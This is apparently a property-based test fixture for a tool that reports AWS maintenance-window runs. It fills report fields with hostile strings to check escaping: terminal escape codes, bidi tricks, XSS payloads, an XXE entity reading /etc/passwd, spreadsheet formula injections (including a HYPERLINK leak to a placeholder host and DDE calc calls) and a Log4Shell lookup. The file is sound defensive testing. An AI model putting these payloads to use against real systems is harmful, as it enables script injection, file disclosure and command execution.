/** Reports in which all untrusted text is hostile. */
import * as fc from "fast-check";
import { reportExecution, type ExecutionReport } from "../../src/index.ts";
import {
  account,
  clientOf,
  command,
  execution,
  machine,
  task,
  unreached,
  WindowExecutionId,
} from "../small-plan.ts";

const control = String.fromCodePoint;

/** Texts that some programs interpret. */
export const hostileTexts: readonly string[] = [
  `${control(0x1b)}[31mred${control(0x1b)}[0m`,
  `${control(0x1b)}]0;title${control(7)}after`,
  `${control(0x9b)}2Jcleared`,
  `a${control(0)}b${control(8)}c`,
  `${control(0x202e)}gpj.exe${control(0x2066)}`,
  `zero${control(0x200b)}width${control(0xfeff)}`,
  "<script>alert(1)</script>",
  "</style><img src=x onerror=alert(1)>",
  `"><svg/onload=alert(1)>`,
  "' onmouseover='alert(1)",
  "&lt;b&gt; &#x3c;i&#x3e;",
  "]]><failure/>",
  "<!-- --><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  '=HYPERLINK("https://example.invalid/?leak="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  "\t=1+1",
  "\r=1+1",
  `${control(0xff1d)}1+1`,
  'a"b,c\r\nd',
  "[click](javascript:alert(1)) ![x](https://example.invalid/x.png)",
  "# heading\n\n- list\n> quote\n***\n| a | b |\n|---|---|",
  "`code` ``two`` *bold* _it_ ~~gone~~ <https://example.invalid> https://example.invalid www.example.invalid",
  "a|b\\|c\\",
  "`",
  "1. one",
  "javascript:alert(1)",
  `lone ${control(0xd800)} surrogate ${control(0xfffe)}${control(0xffff)}`,
  "%00%0a ${jndi:ldap://example.invalid}",
  "",
  " ",
];

/** A hostile or any other text. */
const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.tuple(fc.constantFrom(...hostileTexts), fc.constantFrom(...hostileTexts)).map((parts) => parts.join("")),
);

/** The hostile texts of a report. */
export interface Hostile {
  readonly name: string;
  readonly details: string;
  readonly printed: string;
  readonly called: string;
  readonly secret: string;
}

export const hostiles = fc.record<Hostile>({
  name: hostileText,
  details: hostileText,
  printed: hostileText,
  called: hostileText,
  secret: fc.constant("correct-horse-battery-staple"),
});

/** A report of four machines, three of them not passed, with hostile texts in all fields. */
export const hostileReport = async (
  { name, details, printed, called, secret }: Hostile,
  includeSensitive = true,
): Promise<ExecutionReport> => {
  const machines = [
    machine(1, { InstanceName: name }),
    machine(2, { InstanceName: name, outcome: "Failed", stderr: `error: ${printed}`, stdout: printed }),
    unreached(3, "Undeliverable"),
    unreached(4, "Terminated", "Cancelled"),
  ];
  const invocation = command(1, machines, {
    outcome: "FAILED",
    details,
    OwnerInformation: secret,
    Parameters: JSON.stringify({ documentName: called, parameters: { commands: [secret] } }),
  });
  const plan = account(
    execution(
      [
        task(1, [{ ...invocation, command: { DocumentName: called, machines } }], {
          outcome: "FAILED",
          details,
          task: { TaskArn: called, Type: "RUN_COMMAND", MaxErrors: "1" },
        }),
        task(2, [], { outcome: "FAILED", details }),
      ],
      { outcome: "FAILED", details },
    ),
  );
  const client = clientOf(plan, [
    { kind: "access-denied", operations: ["GetMaintenanceWindowExecutionTask"] },
  ]);
  const report = await reportExecution(client, {
    WindowExecutionId,
    window: { Name: name },
    includeSensitive,
  });
  // AWS's message of the gap is untrusted, too.
  return { ...report, gaps: report.gaps.map((gap) => ({ ...gap, message: printed })) };
};
